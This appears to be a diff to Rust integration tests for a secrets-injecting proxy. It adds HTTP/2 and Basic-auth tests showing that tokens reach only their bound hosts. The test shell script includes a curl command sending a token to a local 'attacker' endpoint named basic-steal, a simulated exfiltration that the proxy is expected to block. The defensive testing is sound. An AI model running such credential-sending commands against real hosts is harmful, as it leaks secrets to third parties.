@@ -45,32 +45,8 @@ fn authorization(head: &str) -> String {
 /// request head and answers with the Authorization header it received (an API that echoes the
 /// key). Returns (port, CA PEM, what it saw).
 fn https_api() -> (u16, String, Seen) {
-    let ca_key = rcgen::KeyPair::generate().unwrap();
-    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
-    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
-    ca_params
-        .distinguished_name
-        .push(rcgen::DnType::CommonName, "keyveil test CA");
-    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
-    let issuer = rcgen::Issuer::new(ca_params, ca_key);
-    let leaf_key = rcgen::KeyPair::generate().unwrap();
-    let leaf = rcgen::CertificateParams::new(vec!["localhost".to_owned()])
-        .unwrap()
-        .signed_by(&leaf_key, &issuer)
-        .unwrap();
-    #[allow(deprecated)]
-    let provider = Arc::new(rustls::crypto::ring::default_provider());
-    let config = Arc::new(
-        rustls::ServerConfig::builder_with_provider(provider)
-            .with_safe_default_protocol_versions()
-            .unwrap()
-            .with_no_client_auth()
-            .with_single_cert(
-                vec![leaf.der().clone()],
-                rustls_pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
-            )
-            .unwrap(),
-    );
+    let (ca_pem, config) = tls_server(&[]);
+    let config = Arc::new(config);
     let l = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = l.local_addr().unwrap().port();
     let seen: Seen = Arc::default();
@@ -114,7 +90,100 @@ fn https_api() -> (u16, String, Seen) {
             });
         }
     });
-    (port, ca_cert.pem(), seen)
+    (port, ca_pem, seen)
+}
+
+/// A test CA and a server configuration with a leaf for `localhost` signed by it, offering
+/// `alpn`. Returns (CA PEM, configuration).
+fn tls_server(alpn: &[&[u8]]) -> (String, rustls::ServerConfig) {
+    let ca_key = rcgen::KeyPair::generate().unwrap();
+    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+    ca_params
+        .distinguished_name
+        .push(rcgen::DnType::CommonName, "keyveil test CA");
+    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
+    let issuer = rcgen::Issuer::new(ca_params, ca_key);
+    let leaf_key = rcgen::KeyPair::generate().unwrap();
+    let leaf = rcgen::CertificateParams::new(vec!["localhost".to_owned()])
+        .unwrap()
+        .signed_by(&leaf_key, &issuer)
+        .unwrap();
+    #[allow(deprecated)]
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let mut config = rustls::ServerConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(
+            vec![leaf.der().clone()],
+            rustls_pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
+        )
+        .unwrap();
+    config.alpn_protocols = alpn.iter().map(|a| a.to_vec()).collect();
+    (ca_cert.pem(), config)
+}
+
+/// An HTTP/2-only "API" (hyper, ALPN `h2`) on 127.0.0.1: records `VERSION PATH AUTHORIZATION`
+/// per request and answers `ECHO:` and the Authorization header when it is a bearer token
+/// (an API that echoes the key). Returns (port, CA PEM, what it saw).
+fn h2_api() -> (u16, String, Seen) {
+    let (ca_pem, config) = tls_server(&[b"h2"]);
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    l.set_nonblocking(true).unwrap();
+    let port = l.local_addr().unwrap().port();
+    let seen: Seen = Arc::default();
+    let seen2 = seen.clone();
+    std::thread::spawn(move || {
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+        rt.block_on(async move {
+            let l = tokio::net::TcpListener::from_std(l).unwrap();
+            while let Ok((s, _)) = l.accept().await {
+                let acceptor = acceptor.clone();
+                let seen = seen2.clone();
+                tokio::spawn(async move {
+                    let Ok(tls) = acceptor.accept(s).await else {
+                        return;
+                    };
+                    let svc = hyper::service::service_fn(
+                        move |req: hyper::Request<hyper::body::Incoming>| {
+                            let seen = seen.clone();
+                            async move {
+                                let auth = req
+                                    .headers()
+                                    .get("authorization")
+                                    .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
+                                    .unwrap_or_default();
+                                seen.lock().unwrap().push(format!(
+                                    "{:?} {} {auth}",
+                                    req.version(),
+                                    req.uri().path()
+                                ));
+                                let echo = if auth.starts_with("Bearer ") {
+                                    format!("ECHO:{auth}")
+                                } else {
+                                    "ok".to_owned()
+                                };
+                                Ok::<_, std::convert::Infallible>(hyper::Response::new(
+                                    http_body_util::Full::new(bytes::Bytes::from(echo)),
+                                ))
+                            }
+                        },
+                    );
+                    let _ = hyper::server::conn::http2::Builder::new(
+                        hyper_util::rt::TokioExecutor::new(),
+                    )
+                    .serve_connection(hyper_util::rt::TokioIo::new(tls), svc)
+                    .await;
+                });
+            }
+        });
+    });
+    (port, ca_pem, seen)
 }
 
 /// The "attacker": plain HTTP on 127.0.0.1, records what reaches it.
@@ -254,6 +323,7 @@ echo done"#
         environ.contains("HTTPS_PROXY=http://127.0.0.1:"),
         "{environ}"
     );
+    assert!(environ.contains("NODE_USE_ENV_PROXY=1"), "{environ}");
 
     // The API received the value, from curl and from Python; the echo came back as the
     // placeholder.
@@ -389,5 +459,144 @@ fn another_process_of_the_same_user_cannot_use_a_runs_proxy() {
             "the proxy still accepts after the revoke"
         );
         std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+fn bind(h: &Home, args: &[&str]) {
+    let mut all = vec!["policy", "set", "demo"];
+    all.extend_from_slice(args);
+    all.push("--passphrase-stdin");
+    let o = h.run_stdin(&all, &format!("{PASS}\n"));
+    assert!(o.status.success(), "{}", text(&o.stderr));
+}
+
+#[test]
+fn http2_and_basic_auth_carry_the_value_to_its_host_only() {
+    use base64::Engine as _;
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let value = fresh_value();
+    let other = fresh_value();
+    let (api, api_ca, api_seen) = https_api(); // HTTP/1.1 only
+    let (h2, h2_ca, h2_seen) = h2_api(); // HTTP/2 only
+    let (att, att_seen) = attacker();
+    let h = Home::new();
+    h.set("demo", "API_TOKEN", &value);
+    h.set("demo", "OTHER_TOKEN", &other);
+    let roots = h.path().join("test-roots.pem");
+    std::fs::write(&roots, format!("{api_ca}{h2_ca}")).unwrap();
+    bind(&h, &["egress-roots", roots.to_str().unwrap()]);
+    let (api_dest, h2_dest) = (format!("localhost:{api}"), format!("localhost:{h2}"));
+    bind(&h, &["bind", "API_TOKEN", &api_dest, &h2_dest]);
+    // OTHER_TOKEN may go to the HTTP/2 API only; the HTTP/1.1 API is intercepted (API_TOKEN
+    // is bound there), so its placeholder sent there is seen.
+    bind(&h, &["bind", "OTHER_TOKEN", &h2_dest]);
+
+    let work = tempfile::tempdir_in("/tmp").unwrap();
+    let c = "curl -sS --max-time 20";
+    let script = format!(
+        r#"printf '%s\n%s\n' "$API_TOKEN" "$OTHER_TOKEN" > seen.txt
+{c} --http2 -w ' HTTPV:%{{http_version}}' -H "Authorization: Bearer $API_TOKEN" https://localhost:{api}/h2-to-h1 > a.txt 2>&1
+{c} --http2 -w ' HTTPV:%{{http_version}}' -H "Authorization: Bearer $API_TOKEN" https://localhost:{h2}/h2-to-h2 > b.txt 2>&1
+{c} --http1.1 -w ' HTTPV:%{{http_version}}' -H "Authorization: Bearer $OTHER_TOKEN" https://localhost:{h2}/h1-to-h2 > c.txt 2>&1
+{c} --http2 -u "me:$API_TOKEN" https://localhost:{h2}/basic > d.txt 2>&1
+{c} --http2 -H "Authorization: Bearer $OTHER_TOKEN" https://localhost:{api}/other-h2 > e.txt 2>&1
+{c} --http2 -u "me:$OTHER_TOKEN" https://localhost:{api}/other-basic > f.txt 2>&1
+{c} -u "me:$API_TOKEN" http://127.0.0.1:{att}/basic-steal > g.txt 2>&1
+echo done"#
+    );
+    let o = h.run_approved(
+        &[
+            "run",
+            "--env",
+            "demo",
+            "--cwd",
+            work.path().to_str().unwrap(),
+            "--",
+            "sh",
+            "-c",
+            &script,
+        ],
+        Duration::from_secs(120),
+    );
+    let out = text(&o.stdout);
+    let err = text(&o.stderr);
+    assert!(out.contains("done"), "stdout: {out}\nstderr: {err}");
+    let read = |f: &str| std::fs::read_to_string(work.path().join(f)).unwrap_or_default();
+    let seen = read("seen.txt");
+    let mut lines = seen.lines();
+    let (p_api, p_other) = (
+        lines.next().unwrap().to_owned(),
+        lines.next().unwrap().to_owned(),
+    );
+    assert_eq!(p_api.len(), value.len());
+    assert_ne!(p_api, value);
+    assert_ne!(p_other, other);
+
+    // HTTP/2 from the child to an HTTP/1.1 API: the value reached it, the echo came back as
+    // the placeholder, over HTTP/2.
+    let a = read("a.txt");
+    assert!(a.contains(&format!("ECHO:Bearer {p_api}")), "{a}");
+    assert!(a.contains("HTTPV:2"), "{a}");
+    let heads = api_seen.lock().unwrap().clone();
+    assert_eq!(heads.len(), 1, "{heads:?}");
+    assert!(heads[0].starts_with("GET /h2-to-h1 "), "{}", heads[0]);
+    assert_eq!(authorization(&heads[0]), format!("Bearer {value}"));
+    // HTTP/2 on both sides, and HTTP/1.1 from the child to an HTTP/2 API.
+    let b = read("b.txt");
+    assert!(b.contains(&format!("ECHO:Bearer {p_api}")), "{b}");
+    assert!(b.contains("HTTPV:2"), "{b}");
+    let c_out = read("c.txt");
+    assert!(c_out.contains(&format!("ECHO:Bearer {p_other}")), "{c_out}");
+    assert!(c_out.contains("HTTPV:1.1"), "{c_out}");
+    let h2s = h2_seen.lock().unwrap().clone();
+    assert!(
+        h2s.contains(&format!("HTTP/2.0 /h2-to-h2 Bearer {value}")),
+        "{h2s:?}"
+    );
+    assert!(
+        h2s.contains(&format!("HTTP/2.0 /h1-to-h2 Bearer {other}")),
+        "{h2s:?}"
+    );
+    // Basic: the placeholder inside base64 was swapped for the value (decoded, replaced,
+    // encoded again).
+    let basic = format!("Basic {}", b64(&format!("me:{value}")));
+    assert!(h2s.contains(&format!("HTTP/2.0 /basic {basic}")), "{h2s:?}");
+    assert_eq!(h2s.len(), 3, "{h2s:?}");
+
+    // OTHER_TOKEN's placeholder to a host it is not bound to, over HTTP/2 and inside Basic:
+    // blocked before the API, and reported.
+    for f in ["e.txt", "f.txt"] {
+        assert!(read(f).contains("blocked"), "{f}: {}", read(f));
+    }
+    // Inside Basic over plain HTTP to the attacker: blocked too.
+    assert!(read("g.txt").contains("blocked"), "{}", read("g.txt"));
+    assert!(att_seen.lock().unwrap().is_empty());
+    assert!(
+        err.contains("OTHER_TOKEN") && err.contains(&format!("https://localhost:{api}")),
+        "{err}"
+    );
+    assert!(err.contains(&format!("http://127.0.0.1:{att}")), "{err}");
+
+    // Neither value nor placeholder, nor the Basic forms, in the audit, the home's files or
+    // what the run printed.
+    let audit = h.audit_text();
+    assert_eq!(audit.matches("\"egress_request\"").count(), 4, "{audit}");
+    assert!(audit.matches("\"egress_blocked\"").count() >= 3, "{audit}");
+    for secret in [&value, &other] {
+        for enc in encodings(secret) {
+            assert!(!contains(&h.all_plain_files(), &enc));
+        }
+        assert!(!contains(&o.stdout, secret) && !contains(&o.stderr, secret));
+    }
+    for p in [&p_api, &p_other] {
+        assert!(!audit.contains(p.as_str()));
+    }
+    for basic in [
+        b64(&format!("me:{value}")),
+        b64(&format!("me:{other}")),
+        b64(&format!("me:{p_other}")),
+    ] {
+        assert!(!contains(&h.all_plain_files(), &basic));
+        assert!(!audit.contains(&basic));
     }
 }
